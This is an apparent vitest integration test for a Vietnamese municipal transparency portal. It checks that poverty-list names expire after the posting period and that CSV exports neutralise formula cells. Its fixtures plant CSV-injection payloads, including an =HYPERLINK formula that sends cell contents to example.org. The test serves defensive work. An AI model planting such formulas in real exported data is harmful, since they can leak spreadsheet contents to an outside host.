/**
 * Personal-data expiry on both sides of the posting period, in one build "as of" the last day of a bundled
 * list's period, from a copy of content/ with planted records:
 * - the bundled list is inside its period: its names are published on its own page (noindex), and nowhere else:
 *   not in the search index, not in open data;
 * - a planted list ended its period before: the names, the personal e-mail and the posted file its office
 *   wrote are gone from every built file and from the search index. (An ID or phone number cannot reach a
 *   build at all: the check refuses them, see tests/unit/personal-data-lint.test.ts. A name, and an address
 *   at an official domain, pass the check, so they are what expiry alone must remove.)
 * - planted titles and budget lines that a spreadsheet would run as formulas are neutralised in every CSV.
 * The same build serves all three to keep the suite fast.
 */
import { spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it, vi } from 'vitest';
import { readCollectionFiles } from '../../src/lib/content/read.ts';
import type { CollectionData } from '../../src/collections.ts';
import { searchFragmentsText } from '../support/dist.ts';
import { formulaCells, writtenCsvFiles } from '../support/csv.ts';

const list = readCollectionFiles('content', { dir: 'poverty-reviews', format: 'md' })
  // The raw record is untyped; typescript-eslint cannot see that the property needs the assertion to be read below.
  // eslint-disable-next-line @typescript-eslint/no-unnecessary-type-assertion
  .map((r) => ({ id: r.id, data: r.data as Partial<CollectionData['povertyReviews']> }))
  .filter((r) => r.data.containsPersonalData && r.data.postingPeriod)
  .sort((a, b) => a.data.postingPeriod!.to.localeCompare(b.data.postingPeriod!.to))[0]!;
const during = list.data.postingPeriod!.to;

const work = mkdtempSync(path.join(tmpdir(), 'portal-window-'));
const dist = path.join(work, 'dist');
const content = path.join(work, 'content');
afterAll(() => rmSync(work, { recursive: true, force: true }));

// A list whose posting period ended before the build day, with people named in its body and a posted file.
const expired = {
  id: 'danh-sach-da-het-han-niem-yet',
  name: 'Trịnh Văn Quý',
  inBody: 'Lưu Thị Nguyệt',
  email: 'luu.thi.nguyet@minhbach.hungyen.example',
  file: 'poverty-reviews/danh-sach-da-het-han-niem-yet.csv',
};
cpSync('content', content, { recursive: true });
writeFileSync(path.join(content, 'files', expired.file), `Chủ hộ,Thôn\n${expired.name},Tổ dân phố số 1\n`);
writeFileSync(
  path.join(content, 'poverty-reviews', `${expired.id}.md`),
  `---
title: Niêm yết danh sách hộ cận nghèo phát sinh phường Minh Khai
summary: Danh sách hộ cận nghèo phát sinh, niêm yết để người dân góp ý.
issuingAuthority: ubnd-cac-phuong-xa-thanh-pho
area: minh-khai
issuedOn: 2023-10-01
publishedOn: 2023-10-02
postingPeriod: { from: 2023-10-02, to: 2023-10-16 }
year: 2023
counts: { poor: 0, nearPoor: 1 }
containsPersonalData: true
households:
  - { name: ${expired.name}, village: Tổ dân phố số 1, category: can-ngheo }
attachments:
  - { file: ${expired.file}, title: Danh sách niêm yết }
sample: true
---

## Hộ ông ${expired.name}

Hộ ông ${expired.name} (vợ là bà ${expired.inBody}) được đề nghị đưa vào danh sách hộ cận nghèo. Góp ý gửi bà ${expired.inBody}, ${expired.email}.
`,
);
// Cells a spreadsheet would run as formulas: a notice title (open data) and budget lines (the budget's CSV).
writeFileSync(
  path.join(content, 'notices', 'thong-bao-tieu-de-nhu-cong-thuc.md'),
  `---
title: '=HYPERLINK("https://example.org/?d="&A1,"Bấm vào đây")'
summary: '@SUM(1+1) tóm tắt bắt đầu bằng a còng'
issuingAuthority: ubnd-cac-phuong-xa-thanh-pho
issuedOn: 2023-10-01
publishedOn: 2023-10-01
category: khac
sample: true
---

Thông báo mẫu.
`,
);
writeFileSync(
  path.join(content, 'budgets', 'du-toan-dong-nhu-cong-thuc.md'),
  `---
title: Dự toán mẫu có dòng giống công thức
summary: Dự toán mẫu.
issuingAuthority: ubnd-cac-phuong-xa-thanh-pho
issuedOn: 2023-10-01
publishedOn: 2023-10-01
budgetKind: du-toan
fiscalYear: 2023
unit: trieu-dong
sections:
  - title: '+Tổng thu'
    total: { amount: 30 }
    lines:
      - { name: '-Thu khác', amount: 10 }
      - { name: "\\tThu có tab", amount: 10 }
      - { name: '=1+2', amount: 10 }
sample: true
---

Dự toán mẫu.
`,
);

const result = spawnSync(process.execPath, ['scripts/build.ts'], {
  env: {
    ...process.env,
    PORTAL_CONTENT_DIR: content,
    PORTAL_DIST_DIR: dist,
    PORTAL_BUILD_DATE: during,
    CI: '1',
    ASTRO_TELEMETRY_DISABLED: '1',
  },
  encoding: 'utf8',
  timeout: 300_000,
});

function builtTextFiles(dir: string): string[] {
  return readdirSync(dir, { recursive: true, encoding: 'utf8' })
    .map((f) => path.join(dir, f))
    .filter((f) => /\.(html|xml|json|csv|txt|ics)$/.test(f));
}

describe(`a list built on the last day of its posting period (${during})`, () => {
  const names = (list.data.households ?? []).map((h) => h.name);

  it('builds', () => {
    expect(result.status, result.stderr).toBe(0);
  });

  it('publishes its names on its own page, marked noindex, and not in the search index or open data', () => {
    expect(names.length).toBeGreaterThan(3);
    const page = readFileSync(path.join(dist, 'cong-khai', 'ho-ngheo', list.id, 'index.html'), 'utf8');
    const openData = ['json', 'csv'].map((ext) => readFileSync(path.join(dist, 'du-lieu-mo', `ho-ngheo.${ext}`), 'utf8')).join('\n');
    const index = searchFragmentsText(dist);
    expect(page).toContain('<meta name="robots" content="noindex">');
    for (const name of names) {
      expect(page).toContain(name);
      expect(openData).not.toContain(name);
      expect(index).not.toContain(name);
    }
  });
});

describe('a list whose posting period ended before the build day', () => {
  const written = [expired.name, expired.inBody, expired.email];

  it('keeps no name or address its office wrote, in any built file, the search index or the served files', () => {
    expect(result.status, result.stderr).toBe(0);
    for (const file of builtTextFiles(dist)) {
      const text = readFileSync(file, 'utf8');
      for (const w of written) expect(text.includes(w), `${w} in ${path.relative(dist, file)}`).toBe(false);
    }
    const index = searchFragmentsText(dist);
    for (const w of written) expect(index.includes(w), `${w} in the search index`).toBe(false);
    expect(existsSync(path.join(dist, 'tep', expired.file))).toBe(false);
  });

  it('is found by no search for a name written in its body', async () => {
    // The search helper reads the dist folder named when it is first loaded: load it afresh for this build.
    process.env['PORTAL_DIST_DIR'] = dist;
    vi.resetModules();
    const { search } = await import('../support/pagefind.ts');
    // The page itself is indexed, by what names nobody.
    expect((await search('cận nghèo phát sinh Minh Khai')).some((h) => h.url.includes(expired.id))).toBe(true);
    for (const query of [expired.inBody, 'Nguyệt', expired.name]) {
      expect(
        (await search(query)).filter((h) => h.url.includes(expired.id)),
        query,
      ).toEqual([]);
    }
  });

  it('keeps its page, with its title, dates and issuer, and says why its content was removed', () => {
    const page = readFileSync(path.join(dist, 'cong-khai', 'ho-ngheo', expired.id, 'index.html'), 'utf8');
    expect(page).toContain('Niêm yết danh sách hộ cận nghèo phát sinh phường Minh Khai');
    expect(page).toContain('16/10/2023');
    expect(page).toContain('tên các hộ, nội dung chi tiết và tệp danh sách đã được gỡ khỏi cổng');
    // Said once: the list's notice, not again as a body.
    expect(page.match(/được gỡ khỏi cổng/g)).toHaveLength(1);
  });
});

describe('CSV cells a spreadsheet would run as formulas', () => {
  it('neutralises them in every CSV the site writes', () => {
    const files = writtenCsvFiles(dist);
    expect(files.length).toBeGreaterThan(5);
    expect(files.flatMap(formulaCells)).toEqual([]);
  });

  it('keeps their text after the quote', () => {
    const budget = readFileSync(path.join(dist, 'cong-khai', 'ngan-sach', 'du-toan-dong-nhu-cong-thuc.csv'), 'utf8');
    expect(budget).toContain(`"'+Tổng thu",1,,"'-Thu khác"`);
    expect(budget).toContain(`"'=1+2"`);
    expect(readFileSync(path.join(dist, 'du-lieu-mo', 'thong-bao.csv'), 'utf8')).toContain(
      `"'=HYPERLINK(""https://example.org/?d=""&A1,""Bấm vào đây"")"`,
    );
  });
});
